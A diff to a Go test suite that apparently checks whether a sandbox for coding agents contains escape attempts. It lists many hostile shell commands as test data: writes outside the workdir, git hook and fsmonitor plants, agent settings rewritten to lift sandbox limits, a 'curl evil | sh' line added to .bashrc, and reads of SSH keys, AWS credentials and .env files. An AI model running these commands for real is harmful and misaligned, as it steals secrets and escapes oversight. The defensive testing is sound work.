@@ -10,6 +10,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"syscall"
@@ -47,8 +48,8 @@ type escapeAttempt struct {
 	run func(e *escapeEnv) []string
 }
 
-// sh is an attempt that is one script, with only the common marks.
-func sh(script string) func(e *escapeEnv) []string {
+// shAttempt is an attempt that is one script, with only the common marks.
+func shAttempt(script string) func(e *escapeEnv) []string {
 	return func(e *escapeEnv) []string {
 		e.sh(script)
 		return nil
@@ -75,28 +76,28 @@ const (
 
 var escapeAttempts = []*escapeAttempt{
 	// Writes outside the working directory.
-	{name: "absolute path", category: catWrite, control: true, run: sh(`echo x > "$OUT/abs-escape"`)},
-	{name: "absolute path in /tmp", category: catWrite, control: true, run: sh(`echo x > "$TMPOUT/abs-escape"`)},
-	{name: "overwrite a host file", category: catWrite, control: true, run: sh(`echo changed > "$HOSTFILE"`)},
-	{name: "one byte changed in place", category: catWrite, control: true, run: sh(`printf X | dd of="$HOSTFILE" bs=1 seek=3 conv=notrunc`)},
-	{name: "dot-dot", category: catWrite, control: true, run: sh(`echo x > ../dotdot-escape`)},
-	{name: "dot-dot from a subdirectory", category: catWrite, control: true, run: sh(`mkdir -p a/b && cd a/b && echo x >> ../../../host.txt`)},
-	{name: "remove a host file", category: catWrite, control: true, run: sh(`rm -f ../host.txt`)},
-	{name: "mkdir outside", category: catWrite, control: true, run: sh(`mkdir ../made-dir`)},
-	{name: "truncate a host file", category: catWrite, control: true, run: sh(`truncate -s 0 "$HOSTFILE"`)},
-	{name: "touch a host file's time", category: catWrite, control: true, run: sh(`touch -d 2001-01-01 "$HOSTFILE"`)},
-	{name: "chmod a host file", category: catWrite, control: true, run: sh(`chmod 0777 "$HOSTFILE"`)},
-	{name: "chown a host file", category: catWrite, control: true, controlRoot: true, run: sh(`chown 65534:65534 "$HOSTFILE"`)},
-	{name: "xattr on a host file", category: catWrite, control: true, run: sh(`"$H" setxattr "$HOSTFILE" user.planted yes`)},
-	{name: "symlink made inside to a host file", category: catWrite, control: true, run: sh(`ln -s "$HOSTFILE" l && echo x >> l`)},
-	{name: "symlink made inside to a host dir", category: catWrite, control: true, run: sh(`ln -s "$HOSTDIR" d && echo x > d/via-symlink`)},
-	{name: "symlink made inside to /", category: catWrite, control: true, run: sh(`ln -s / r && echo x > "r$OUT/via-root-link"`)},
-	{name: "relative symlink to ..", category: catWrite, control: true, run: sh(`ln -s .. up && echo x > up/via-up`)},
-	{name: "symlink already in the workdir", category: catWrite, control: true, run: sh(`echo x > pre-link/via-pre-link`)},
-	{name: "hard link to a host file", category: catWrite, control: true, run: sh(`ln "$HOSTFILE" hl && echo x >> hl`)},
-	{name: "/proc/self/root", category: catWrite, control: true, run: sh(`echo x > "/proc/self/root$OUT/proc-root"`)},
-	{name: "/proc/<test pid>/root", category: catWrite, control: true, run: sh(`echo x > "/proc/$TESTPID/root$OUT/proc-test-root"`)},
-	{name: "/proc/1/root into the host's /tmp", category: catWrite, run: sh(`echo x > "/proc/1/root$TMPOUT/proc-1-root"`)},
+	{name: "absolute path", category: catWrite, control: true, run: shAttempt(`echo x > "$OUT/abs-escape"`)},
+	{name: "absolute path in /tmp", category: catWrite, control: true, run: shAttempt(`echo x > "$TMPOUT/abs-escape"`)},
+	{name: "overwrite a host file", category: catWrite, control: true, run: shAttempt(`echo changed > "$HOSTFILE"`)},
+	{name: "one byte changed in place", category: catWrite, control: true, run: shAttempt(`printf X | dd of="$HOSTFILE" bs=1 seek=3 conv=notrunc`)},
+	{name: "dot-dot", category: catWrite, control: true, run: shAttempt(`echo x > ../dotdot-escape`)},
+	{name: "dot-dot from a subdirectory", category: catWrite, control: true, run: shAttempt(`mkdir -p src/a/b && cd src/a/b && echo x >> ../../../../host.txt`)},
+	{name: "remove a host file", category: catWrite, control: true, run: shAttempt(`rm -f ../host.txt`)},
+	{name: "mkdir outside", category: catWrite, control: true, run: shAttempt(`mkdir ../made-dir`)},
+	{name: "truncate a host file", category: catWrite, control: true, run: shAttempt(`truncate -s 0 "$HOSTFILE"`)},
+	{name: "touch a host file's time", category: catWrite, control: true, run: shAttempt(`touch -d 2001-01-01 "$HOSTFILE"`)},
+	{name: "chmod a host file", category: catWrite, control: true, run: shAttempt(`chmod 0777 "$HOSTFILE"`)},
+	{name: "chown a host file", category: catWrite, control: true, controlRoot: true, run: shAttempt(`chown 65534:65534 "$HOSTFILE"`)},
+	{name: "xattr on a host file", category: catWrite, control: true, run: shAttempt(`"$H" setxattr "$HOSTFILE" user.planted yes`)},
+	{name: "symlink made inside to a host file", category: catWrite, control: true, run: shAttempt(`ln -s "$HOSTFILE" src/l && echo x >> src/l`)},
+	{name: "symlink made inside to a host dir", category: catWrite, control: true, run: shAttempt(`ln -s "$HOSTDIR" src/d && echo x > src/d/via-symlink`)},
+	{name: "symlink made inside to /", category: catWrite, control: true, run: shAttempt(`ln -s / src/r && echo x > "src/r$OUT/via-root-link"`)},
+	{name: "relative symlink to ..", category: catWrite, control: true, run: shAttempt(`ln -s ../.. src/up && echo x > src/up/via-up`)},
+	{name: "symlink already in the workdir", category: catWrite, control: true, run: shAttempt(`echo x > pre-link/via-pre-link`)},
+	{name: "hard link to a host file", category: catWrite, control: true, run: shAttempt(`ln "$HOSTFILE" src/hl && echo x >> src/hl`)},
+	{name: "/proc/self/root", category: catWrite, control: true, run: shAttempt(`echo x > "/proc/self/root$OUT/proc-root"`)},
+	{name: "/proc/<test pid>/root", category: catWrite, control: true, run: shAttempt(`echo x > "/proc/$TESTPID/root$OUT/proc-test-root"`)},
+	{name: "/proc/1/root into the host's /tmp", category: catWrite, run: shAttempt(`echo x > "/proc/1/root$TMPOUT/proc-1-root"`)},
 	{name: "/proc/<pid>/cwd of a host process", category: catWrite, control: true, run: func(e *escapeEnv) []string {
 		v := e.startSleeper(filepath.Join(e.base, "hostdir"))
 		e.sh(fmt.Sprintf(`echo x > /proc/%d/cwd/proc-cwd`, v.pid))
@@ -112,36 +113,36 @@ var escapeAttempts = []*escapeAttempt{
 		e.sh(fmt.Sprintf(`echo changed > /proc/%d/fd/4`, v.pid))
 		return nil
 	}},
-	{name: "rename out", category: catWrite, control: true, run: sh(`echo x > f && mv f ../renamed-out`)},
-	{name: "rename a host file in", category: catWrite, control: true, run: sh(`mv ../host.txt stolen`)},
-	{name: "cp --target-directory", category: catWrite, control: true, run: sh(`echo x > f && cp --target-directory=.. f`)},
-	{name: "sed -i on a host file", category: catWrite, control: true, run: sh(`sed -i s/host/evil/ "$HOSTFILE"`)},
+	{name: "rename out", category: catWrite, control: true, run: shAttempt(`echo x > src/f && mv src/f ../renamed-out`)},
+	{name: "rename a host file in", category: catWrite, control: true, run: shAttempt(`mv ../host.txt src/stolen`)},
+	{name: "cp --target-directory", category: catWrite, control: true, run: shAttempt(`echo x > src/f && cp --target-directory=.. src/f`)},
+	{name: "sed -i on a host file", category: catWrite, control: true, run: shAttempt(`sed -i s/host/evil/ "$HOSTFILE"`)},
 	{name: "tar member with ..", category: catWrite, control: true, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
-		e.writeTar(tar.Header{Name: "../tar-dotdot", Typeflag: tar.TypeReg, Mode: 0o644}, nil)
-		e.sh(`tar -xPf evil.tar`)
+		e.writeTar(tar.Header{Name: "../../tar-dotdot", Typeflag: tar.TypeReg, Mode: 0o644}, nil)
+		e.sh(`tar -C src -xPf evil.tar`)
 		return nil
 	}},
 	{name: "tar member with an absolute path", category: catWrite, control: true, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
 		e.writeTar(tar.Header{Name: filepath.Join(e.base, "tar-absolute"), Typeflag: tar.TypeReg, Mode: 0o644}, nil)
-		e.sh(`tar -xPf evil.tar`)
+		e.sh(`tar -C src -xPf evil.tar`)
 		return nil
 	}},
 	{name: "tar symlink then a member through it", category: catWrite, control: true, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
 		e.writeTar(tar.Header{Name: "lnk", Typeflag: tar.TypeSymlink, Linkname: filepath.Join(e.base, "hostdir"), Mode: 0o777},
 			&tar.Header{Name: "lnk/tar-through-link", Typeflag: tar.TypeReg, Mode: 0o644})
-		e.sh(`tar -xPf evil.tar`)
+		e.sh(`tar -C src -xPf evil.tar`)
 		return nil
 	}},
 	{name: "unzip member with ..", category: catWrite, control: true, needs: []string{"unzip"}, run: func(e *escapeEnv) []string {
 		f, err := os.Create(filepath.Join(e.work, "evil.zip"))
 		must(e.t, err)
 		zw := zip.NewWriter(f)
-		w, err := zw.Create("../zip-dotdot")
+		w, err := zw.Create("../../zip-dotdot")
 		must(e.t, err)
 		_, _ = w.Write([]byte("x\n"))
 		must(e.t, zw.Close())
 		must(e.t, f.Close())
-		e.sh(`unzip -: -o evil.zip`)
+		e.sh(`cd src && unzip -: -o ../evil.zip`)
 		return nil
 	}},
 	{name: "/dev/shm", category: catWrite, run: func(e *escapeEnv) []string {
@@ -179,51 +180,48 @@ var escapeAttempts = []*escapeAttempt{
 		}
 		return ev
 	}},
-	{name: "home dotfile (~/.bashrc)", category: catHome, control: true, run: sh(`echo 'curl evil | sh' >> ~/.bashrc`)},
+	{name: "home dotfile (~/.bashrc)", category: catHome, control: true, run: shAttempt(`echo 'curl evil | sh' >> "$PHOME/.bashrc"`)},
 
 	// .git plants: a program that would run at the person's next git
 	// command.
-	{name: "git config core.fsmonitor", category: catGit, repo: "repo", control: true, run: sh(`git config core.fsmonitor "$MARK"`)},
-	{name: "hook written into .git/hooks", category: catGit, repo: "repo", control: true, run: sh(`printf '#!/bin/sh\n"%s"\n' "$MARK" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`)},
-	{name: "git config core.pager", category: catGit, repo: "repo", control: true, run: sh(`git config core.pager "$MARK"`)},
-	{name: "git config core.hooksPath", category: catGit, repo: "repo", control: true, run: sh(`mkdir hooks && printf '#!/bin/sh\n"%s"\n' "$MARK" > hooks/pre-commit && chmod +x hooks/pre-commit && git config core.hooksPath "$PWD/hooks"`)},
-	{name: "git config include.path", category: catGit, repo: "repo", control: true, run: sh(`printf '[core]\n\tfsmonitor = %s\n' "$MARK" > plant.cfg && git config include.path ../plant.cfg`)},
-	{name: "git config diff.external", category: catGit, repo: "repo", control: true, run: sh(`git config diff.external "$MARK"`)},
-	{name: ".git/config edited directly", category: catGit, repo: "repo", control: true, run: sh(`printf '[core]\n\tfsmonitor = %s\n' "$MARK" >> .git/config`)},
-	{name: ".git/config replaced by rename", category: catGit, repo: "repo", control: true, run: sh(`cp .git/config c && printf '[core]\n\tfsmonitor = %s\n' "$MARK" >> c && mv -f c .git/config`)},
-	{name: ".git moved aside and made anew", category: catGit, repo: "repo", control: true, run: sh(`mv .git .git-old; git init -q . && git config core.fsmonitor "$MARK"`)},
-	{name: ".git removed and made anew", category: catGit, repo: "repo", control: true, run: sh(`rm -rf .git; git init -q . && git config core.fsmonitor "$MARK"`)},
-	{name: "git init in a subdirectory", category: catGit, repo: "repo", control: true, run: sh(`git init -q sub && git -C sub config core.fsmonitor "$MARK"`)},
-	{name: ".git made by hand in a subdirectory", category: catGit, repo: "repo", control: true, run: sh(`mkdir -p sub/.git/objects sub/.git/refs && echo 'ref: refs/heads/main' > sub/.git/HEAD && printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = %s\n' "$MARK" > sub/.git/config`)},
-	{name: "nested repo's directory moved aside and made anew", category: catGit, repo: "nested", control: true, run: sh(`mv nested nested-old && git init -q nested && git -C nested config core.fsmonitor "$MARK"`)},
-	{name: "nested .claude's directory moved aside and made anew", category: catAgent, repo: "nested", control: true, run: sh(`mv nested nested-old && mkdir -p nested/.claude && echo '{"permissions": {"allow": ["Bash(*)"]}}' > nested/.claude/settings.json`)},
-	{name: "gitdir: file in a subdirectory", category: catGit, repo: "repo", control: true, run: sh(`git init -q --bare evil.git && git --git-dir=evil.git config core.bare false && git --git-dir=evil.git config core.fsmonitor "$MARK" && echo 'gitdir: ../evil.git' > sub/.git`)},
-	{name: ".git symlink in a subdirectory", category: catGit, repo: "repo", control: true, run: sh(`git init -q --bare evil.git && git --git-dir=evil.git config core.bare false && git --git-dir=evil.git config core.fsmonitor "$MARK" && ln -s ../evil.git sub/.git`)},
-	{name: "worktree's .git file pointed elsewhere", category: catGit, repo: "worktree", control: true, run: sh(`git init -q --bare evil.git && git --git-dir=evil.git config core.bare false && git --git-dir=evil.git config core.fsmonitor "$MARK" && echo "gitdir: $PWD/evil.git" > .git`)},
-	{name: "worktree: git config (the main repo's)", category: catGit, repo: "worktree", control: true, run: sh(`git config core.fsmonitor "$MARK"`)},
-	{name: "worktree: hook in the common dir", category: catGit, repo: "worktree", control: true, run: sh(`d=$(git rev-parse --git-common-dir) && printf '#!/bin/sh\n"%s"\n' "$MARK" > "$d/hooks/pre-commit" && chmod +x "$d/hooks/pre-commit"`)},
+	{name: "git config core.fsmonitor", category: catGit, repo: "repo", control: true, run: shAttempt(`git config core.fsmonitor "$MARK"`)},
+	{name: "hook written into .git/hooks", category: catGit, repo: "repo", control: true, run: shAttempt(`printf '#!/bin/sh\n"%s"\n' "$MARK" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`)},
+	{name: "git config core.pager", category: catGit, repo: "repo", control: true, run: shAttempt(`git config core.pager "$MARK"`)},
+	{name: "git config core.hooksPath", category: catGit, repo: "repo", control: true, run: shAttempt(`mkdir src/hooks && printf '#!/bin/sh\n"%s"\n' "$MARK" > src/hooks/pre-commit && chmod +x src/hooks/pre-commit && git config core.hooksPath "$PWD/src/hooks"`)},
+	{name: "git config include.path", category: catGit, repo: "repo", control: true, run: shAttempt(`printf '[core]\n\tfsmonitor = %s\n' "$MARK" > src/plant.cfg && git config include.path ../src/plant.cfg`)},
+	{name: "git config diff.external", category: catGit, repo: "repo", control: true, run: shAttempt(`git config diff.external "$MARK"`)},
+	{name: ".git/config edited directly", category: catGit, repo: "repo", control: true, run: shAttempt(`printf '[core]\n\tfsmonitor = %s\n' "$MARK" >> .git/config`)},
+	{name: ".git/config replaced by rename", category: catGit, repo: "repo", control: true, run: shAttempt(`cp .git/config c && printf '[core]\n\tfsmonitor = %s\n' "$MARK" >> c && mv -f c .git/config`)},
+	{name: ".git moved aside and made anew", category: catGit, repo: "repo", control: true, run: shAttempt(`mv .git .git-old; git init -q . && git config core.fsmonitor "$MARK"`)},
+	{name: ".git removed and made anew", category: catGit, repo: "repo", control: true, run: shAttempt(`rm -rf .git; git init -q . && git config core.fsmonitor "$MARK"`)},
+	{name: "git init in a subdirectory", category: catGit, repo: "repo", control: true, run: shAttempt(`git init -q src/sub && git -C src/sub config core.fsmonitor "$MARK"`)},
+	{name: ".git made by hand in a subdirectory", category: catGit, repo: "repo", control: true, run: shAttempt(`mkdir -p src/sub/.git/objects src/sub/.git/refs && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = %s\n' "$MARK" > src/sub/.git/config`)},
+	{name: "nested repo's directory moved aside and made anew", category: catGit, repo: "nested", control: true, run: shAttempt(`mv nested nested-old && git init -q nested && git -C nested config core.fsmonitor "$MARK"`)},
+	{name: "nested .claude's directory moved aside and made anew", category: catAgent, repo: "nested", control: true, run: shAttempt(`mv nested nested-old && mkdir -p nested/.claude && echo '{"permissions": {"allow": ["Bash(*)"]}}' > nested/.claude/settings.json`)},
+	{name: "gitdir: file in a subdirectory", category: catGit, repo: "repo", control: true, run: shAttempt(`git init -q --bare src/evil.git && git --git-dir=src/evil.git config core.bare false && git --git-dir=src/evil.git config core.fsmonitor "$MARK" && mkdir src/sub && echo 'gitdir: ../evil.git' > src/sub/.git`)},
+	{name: ".git symlink in a subdirectory", category: catGit, repo: "repo", control: true, run: shAttempt(`git init -q --bare src/evil.git && git --git-dir=src/evil.git config core.bare false && git --git-dir=src/evil.git config core.fsmonitor "$MARK" && mkdir src/sub && ln -s ../evil.git src/sub/.git`)},
+	{name: "worktree's .git file pointed elsewhere", category: catGit, repo: "worktree", control: true, run: shAttempt(`git init -q --bare src/evil.git && git --git-dir=src/evil.git config core.bare false && git --git-dir=src/evil.git config core.fsmonitor "$MARK" && echo "gitdir: $PWD/src/evil.git" > .git`)},
+	{name: "worktree: git config (the main repo's)", category: catGit, repo: "worktree", control: true, run: shAttempt(`git config core.fsmonitor "$MARK"`)},
+	{name: "worktree: hook in the common dir", category: catGit, repo: "worktree", control: true, run: shAttempt(`d=$(git rev-parse --git-common-dir) && printf '#!/bin/sh\n"%s"\n' "$MARK" > "$d/hooks/pre-commit" && chmod +x "$d/hooks/pre-commit"`)},
 
 	// The agents' own configuration.
-	{name: ".claude/settings.json", category: catAgent, control: true, run: sh(`echo '{"permissions": {"allow": ["Bash(*)"]}}' > .claude/settings.json`)},
-	{name: ".claude moved aside and made anew", category: catAgent, control: true, run: sh(`mv .claude .claude-old; mkdir -p .claude && echo '{}' > .claude/settings.json`)},
-	{name: ".claude made in a subdirectory", category: catAgent, control: true, run: sh(`mkdir -p sub/.claude && echo '{"permissions": {"allow": ["Bash(*)"]}}' > sub/.claude/settings.json`)},
-	{name: ".agentsh policy", category: catAgent, control: true, run: sh(`echo 'def policy(call): return "allow"' >> .agentsh/policy.star`)},
-	{name: ".codex/config.toml", category: catAgent, control: true, run: sh(`echo 'sandbox_mode = "danger-full-access"' > .codex/config.toml`)},
-	{name: ".gemini/settings.json", category: catAgent, control: true, run: sh(`echo '{"tools": {"sandbox": false}}' > .gemini/settings.json`)},
+	{name: ".claude/settings.json", category: catAgent, control: true, run: shAttempt(`echo '{"permissions": {"allow": ["Bash(*)"]}}' > .claude/settings.json`)},
+	{name: ".claude moved aside and made anew", category: catAgent, control: true, run: shAttempt(`mv .claude .claude-old; mkdir -p .claude && echo '{}' > .claude/settings.json`)},
+	{name: ".claude made in a subdirectory", category: catAgent, control: true, run: shAttempt(`mkdir -p src/sub/.claude && echo '{"permissions": {"allow": ["Bash(*)"]}}' > src/sub/.claude/settings.json`)},
+	{name: ".agentsh policy", category: catAgent, control: true, run: shAttempt(`echo 'def policy(call): return "allow"' >> .agentsh/policy.star`)},
+	{name: ".codex/config.toml", category: catAgent, control: true, run: shAttempt(`echo 'sandbox_mode = "danger-full-access"' > .codex/config.toml`)},
+	{name: ".gemini/settings.json", category: catAgent, control: true, run: shAttempt(`echo '{"tools": {"sandbox": false}}' > .gemini/settings.json`)},
 
 	// The home directory.
-	{name: "cat ~/.ssh/id_ed25519", category: catHome, control: true, run: sh(`cat ~/.ssh/id_ed25519`)},
-	{name: "cat $HOME/.aws/credentials", category: catHome, control: true, run: sh(`cat "$HOME/.aws/credentials"`)},
+	{name: "cat ~/.ssh/id_ed25519", category: catHome, control: true, run: shAttempt(`cat ~/.ssh/id_ed25519 "$PHOME/.ssh/id_ed25519"`)},
+	{name: "cat $HOME/.aws/credentials", category: catHome, control: true, run: shAttempt(`cat "$HOME/.aws/credentials" "$PHOME/.aws/credentials"`)},
 	{name: "list the home directory", category: catHome, control: true, run: func(e *escapeEnv) []string {
-		res := e.sh(`ls -aR ~`)
-		if bytes.Contains(res.Output, []byte("id_ed25519")) || bytes.Contains(res.Output, []byte("credentials")) {
-			return []string{"the home directory's files are listed"}
-		}
-		return nil
+		res := e.sh(`ls -aR ~ "$PHOME"`)
+		return namesListed(res, ".netrc", ".bashrc", ".ssh", "id_ed25519", "credentials")
 	}},
-	{name: "home through /proc/self/root", category: catHome, control: true, run: sh(`cat "/proc/self/root$HOME/.netrc"`)},
-	{name: "home through a symlink made inside", category: catHome, control: true, run: sh(`ln -s "$HOME" h && cat h/.config/gh/hosts.yml`)},
-	{name: "workdir below home: ../..", category: catHome, inHome: true, run: sh(`cat ../../.ssh/id_ed25519 ../../.aws/credentials`)},
+	{name: "home through /proc/self/root", category: catHome, control: true, run: shAttempt(`cat "/proc/self/root$PHOME/.netrc"`)},
+	{name: "home through a symlink made inside", category: catHome, control: true, run: shAttempt(`ln -s "$PHOME" src/h && cat src/h/.config/gh/hosts.yml`)},
+	{name: "workdir below home: ../..", category: catHome, inHome: true, run: shAttempt(`cat ../../.ssh/id_ed25519 ../../.aws/credentials`)},
 	{name: "the user's kernel keyring", category: catHome, control: true, run: func(e *escapeEnv) []string {
 		// The user keyring is the user's, whichever thread or process
 		// asks (a session keyring is a thread's until it is shared).
@@ -247,28 +245,30 @@ var escapeAttempts = []*escapeAttempt{
 	}},
 
 	// Secret files in the working directory.
-	{name: "cat .env", category: catSecret, control: true, run: sh(`cat .env`)},
-	{name: "cat .en? (glob)", category: catSecret, control: true, run: sh(`cat .en?`)},
-	{name: "cp .e[n]v and read the copy", category: catSecret, control: true, run: sh(`cp .e[n]v copy; cat copy`)},
-	{name: "cat .env.local", category: catSecret, control: true, run: sh(`cat .env.local`)},
-	{name: "cat *.pem", category: catSecret, control: true, run: sh(`cat *.pem`)},
-	{name: "cat id_ed25519", category: catSecret, control: true, run: sh(`cat id_ed25519`)},
-	{name: "cat .aws/credentials", category: catSecret, control: true, run: sh(`cat .aws/credentials`)},
-	{name: "read .ssh/", category: catSecret, control: true, run: sh(`ls -a .ssh; cat .ssh/*`)},
-	{name: "nested sub/.env", category: catSecret, control: true, run: sh(`cat sub/.env`)},
-	{name: "secret through a symlink made inside", category: catSecret, control: true, run: sh(`ln -s .env l && cat l`)},
-	{name: "secret through a hard link", category: catSecret, control: true, run: sh(`ln .env hl; cat hl`)},
-	{name: "secret through /proc/self/root", category: catSecret, control: true, run: sh(`cat "/proc/self/root$PWD/.env"`)},
+	{name: "cat .env", category: catSecret, control: true, run: shAttempt(`cat .env`)},
+	{name: "cat .en? (glob)", category: catSecret, control: true, run: shAttempt(`cat .en?`)},
+	{name: "cp .e[n]v and read the copy", category: catSecret, control: true, run: shAttempt(`cp .e[n]v src/copy; cat src/copy`)},
+	{name: "cat .env.local", category: catSecret, control: true, run: shAttempt(`cat .env.local`)},
+	{name: "cat *.pem", category: catSecret, control: true, run: shAttempt(`cat *.pem`)},
+	{name: "cat id_ed25519", category: catSecret, control: true, run: shAttempt(`cat id_ed25519`)},
+	{name: "cat .aws/credentials", category: catSecret, control: true, run: shAttempt(`cat .aws/credentials`)},
+	{name: "read .ssh/", category: catSecret, control: true, run: func(e *escapeEnv) []string {
+		return namesListed(e.sh(`ls -a .ssh .aws; cat .ssh/*`), "id_rsa", "credentials")
+	}},
+	{name: "nested sub/.env", category: catSecret, control: true, run: shAttempt(`cat sub/.env`)},
+	{name: "secret through a symlink made inside", category: catSecret, control: true, run: shAttempt(`ln -s ../.env src/l && cat src/l`)},
+	{name: "secret through a hard link", category: catSecret, control: true, run: shAttempt(`ln .env src/hl; cat src/hl`)},
+	{name: "secret through /proc/self/root", category: catSecret, control: true, run: shAttempt(`cat "/proc/self/root$PWD/.env"`)},
 	{name: "secret through a host process's cwd", category: catSecret, control: true, run: func(e *escapeEnv) []string {
 		v := e.startSleeper(e.work)
 		e.sh(fmt.Sprintf(`cat /proc/%d/cwd/.env`, v.pid))
 		return nil
 	}},
-	{name: "secret moved, then read", category: catSecret, control: true, run: sh(`mv .env moved; cat moved`)},
-	{name: "secret through /proc/<test pid>/root", category: catSecret, control: true, run: sh(`cat "/proc/$TESTPID/root$PWD/.env"`)},
-	{name: "dd if=.env", category: catSecret, control: true, run: sh(`dd if=.env status=none`)},
-	{name: "grep -r", category: catSecret, control: true, run: sh(`grep -r sEcReT . --exclude=escape-helper`)},
-	{name: "tar the workdir to stdout", category: catSecret, control: true, needs: []string{"tar"}, run: sh(`tar -cf - --exclude=escape-helper . | tr -c '[:print:]' '\n' | grep sEcReT`)},
+	{name: "secret moved, then read", category: catSecret, control: true, run: shAttempt(`mv .env moved; cat moved`)},
+	{name: "secret through /proc/<test pid>/root", category: catSecret, control: true, run: shAttempt(`cat "/proc/$TESTPID/root$PWD/.env"`)},
+	{name: "dd if=.env", category: catSecret, control: true, run: shAttempt(`dd if=.env status=none`)},
+	{name: "grep -r", category: catSecret, control: true, run: shAttempt(`grep -r sEcReT . --exclude=escape-helper`)},
+	{name: "tar the workdir to stdout", category: catSecret, control: true, needs: []string{"tar"}, run: shAttempt(`tar -cf - --exclude=escape-helper . | tr -c '[:print:]' '\n' | grep sEcReT`)},
 
 	// Network: no connection reaches a listener of the host.
 	{name: "TCP to 127.0.0.1 (bash /dev/tcp)", category: catNet, control: true, run: func(e *escapeEnv) []string {
@@ -394,24 +394,24 @@ var escapeAttempts = []*escapeAttempt{
 	}},
 
 	// Mounts and namespaces.
-	{name: "mount -o remount,rw /", category: catMount, needs: []string{"mount"}, run: sh(`mount -o remount,rw /; echo x > "$OUT/remount-escape"`)},
-	{name: "umount .git", category: catMount, repo: "repo", needs: []string{"umount"}, run: sh(`umount .git || umount -l .git; git config core.fsmonitor "$MARK"`)},
-	{name: "mount --bind a host dir into the workdir", category: catMount, needs: []string{"mount"}, run: sh(`mkdir m; mount --bind "$HOSTDIR" m; echo x > m/bind-escape`)},
-	{name: "user namespace: umount .git", category: catMount, userns: true, repo: "repo", run: sh(`"$H" userns umount "$PWD/.git" .git/config "$(printf '[core]\n\tfsmonitor = %s\n' "$MARK")"`)},
-	{name: "user namespace: remount / read-write", category: catMount, userns: true, run: sh(`"$H" userns remount / "$OUT/userns-remount" x`)},
-	{name: "user namespace: umount the private /tmp", category: catMount, userns: true, run: sh(`"$H" userns umount /tmp "$TMPOUT/userns-tmp" x`)},
-	{name: "user namespace: bind a host dir writable", category: catMount, userns: true, run: sh(`mkdir m && "$H" userns bind "$HOSTDIR" "$PWD/m" m/userns-bind x`)},
-	{name: "unshare -r setcap", category: catMount, userns: true, needs: []string{"unshare", "setcap"}, run: sh(`cp "$(type -P true)" t && unshare -r setcap cap_net_raw+ep t`)},
-	{name: "nsenter pid 1", category: catMount, needs: []string{"nsenter"}, run: sh(`nsenter -t 1 -a sh -c 'echo x > "$OUT/nsenter-escape"'`)},
+	{name: "mount -o remount,rw /", category: catMount, needs: []string{"mount"}, run: shAttempt(`mount -o remount,rw /; echo x > "$OUT/remount-escape"`)},
+	{name: "umount .git", category: catMount, repo: "repo", needs: []string{"umount"}, run: shAttempt(`umount .git || umount -l .git; git config core.fsmonitor "$MARK"`)},
+	{name: "mount --bind a host dir into the workdir", category: catMount, needs: []string{"mount"}, run: shAttempt(`mkdir src/m; mount --bind "$HOSTDIR" src/m; echo x > src/m/bind-escape`)},
+	{name: "user namespace: umount .git", category: catMount, userns: true, repo: "repo", run: shAttempt(`"$H" userns umount "$PWD/.git" .git/config "$(printf '[core]\n\tfsmonitor = %s\n' "$MARK")"`)},
+	{name: "user namespace: remount / read-write", category: catMount, userns: true, run: shAttempt(`"$H" userns remount / "$OUT/userns-remount" x`)},
+	{name: "user namespace: umount the private /tmp", category: catMount, userns: true, run: shAttempt(`"$H" userns umount /tmp "$TMPOUT/userns-tmp" x`)},
+	{name: "user namespace: bind a host dir writable", category: catMount, userns: true, run: shAttempt(`mkdir src/m && "$H" userns bind "$HOSTDIR" "$PWD/src/m" src/m/userns-bind x`)},
+	{name: "unshare -r setcap", category: catMount, userns: true, needs: []string{"unshare", "setcap"}, run: shAttempt(`cp "$(type -P true)" src/t && unshare -r setcap cap_net_raw+ep src/t`)},
+	{name: "nsenter pid 1", category: catMount, needs: []string{"nsenter"}, run: shAttempt(`nsenter -t 1 -a sh -c 'echo x > "$OUT/nsenter-escape"'`)},
 
 	// setuid and setgid files, device nodes, capabilities.
-	{name: "chmod u+s", category: catSetid, control: true, run: sh(`cp "$(type -P true)" s && chmod u+s s`)},
-	{name: "chmod g+s", category: catSetid, control: true, run: sh(`cp "$(type -P true)" s && chmod g+s s`)},
-	{name: "install -m 4755", category: catSetid, control: true, run: sh(`install -m 4755 "$(type -P true)" s`)},
-	{name: "open(O_CREAT, 04755)", category: catSetid, control: true, run: sh(`"$H" creat-suid s`)},
+	{name: "chmod u+s", category: catSetid, control: true, run: shAttempt(`cp "$(type -P true)" src/s && chmod u+s src/s`)},
+	{name: "chmod g+s", category: catSetid, control: true, run: shAttempt(`cp "$(type -P true)" src/s && chmod g+s src/s`)},
+	{name: "install -m 4755", category: catSetid, control: true, run: shAttempt(`install -m 4755 "$(type -P true)" src/s`)},
+	{name: "open(O_CREAT, 04755)", category: catSetid, control: true, run: shAttempt(`"$H" creat-suid src/s`)},
 	{name: "tar member with mode 4755", category: catSetid, control: true, controlRoot: true, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
 		e.writeTar(tar.Header{Name: "suid", Typeflag: tar.TypeReg, Mode: 0o4755}, nil)
-		e.sh(`tar -xpf evil.tar`)
+		e.sh(`tar -C src -xpf evil.tar`)
 		return nil
 	}},
 	{name: "cp -p of a setuid program", category: catSetid, run: func(e *escapeEnv) []string {
@@ -419,11 +419,11 @@ var escapeAttempts = []*escapeAttempt{
 		if prog == "" {
 			e.skip("no setuid program on this machine to copy")
 		}
-		e.sh(`cp -p ` + prog + ` s`)
+		e.sh(`cp -p ` + prog + ` src/s`)
 		return nil
 	}},
-	{name: "mknod a character device", category: catSetid, run: sh(`mknod null c 1 3`)},
-	{name: "mknod a block device", category: catSetid, run: sh(`mknod disk b 7 0`)},
+	{name: "mknod a character device", category: catSetid, run: shAttempt(`mknod src/null c 1 3`)},
+	{name: "mknod a block device", category: catSetid, run: shAttempt(`mknod src/disk b 7 0`)},
 	{name: "capabilities inside", category: catSetid, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
 		res := e.sh(`grep -E '^Cap(Eff|Prm|Amb):' /proc/self/status`)
 		var ev []string
@@ -440,7 +440,7 @@ var escapeAttempts = []*escapeAttempt{
 		}
 		return nil
 	}},
